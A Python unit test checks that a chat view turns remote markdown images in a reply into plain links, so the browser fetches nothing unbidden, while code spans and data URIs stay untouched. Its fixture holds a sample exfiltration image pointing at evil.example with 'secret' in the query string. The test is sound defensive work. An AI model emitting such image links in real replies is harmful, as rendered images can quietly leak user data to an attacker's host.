"""How a reply looks in the page: nothing in it makes the browser fetch from elsewhere."""

from ui.chat_view import link_remote_media


def test_remote_markdown_images_become_links_outside_code_only() -> None:
    text = (
        "See ![chart](https://evil.example/x.png?q=secret) and ![](http://evil.example/y)\n"
        "```md\n![kept](https://example.com/in-code.png)\n```\n"
        "inline `![kept](https://example.com/inline.png)` and ![local](data:image/png;base64,AAAA)"
    )
    out = link_remote_media(text)
    assert "[chart](https://evil.example/x.png?q=secret)" in out and "![chart]" not in out
    assert "[image](http://evil.example/y)" in out
    assert "![kept](https://example.com/in-code.png)" in out
    assert "`![kept](https://example.com/inline.png)`" in out
    assert "![local](data:image/png;base64,AAAA)" in out
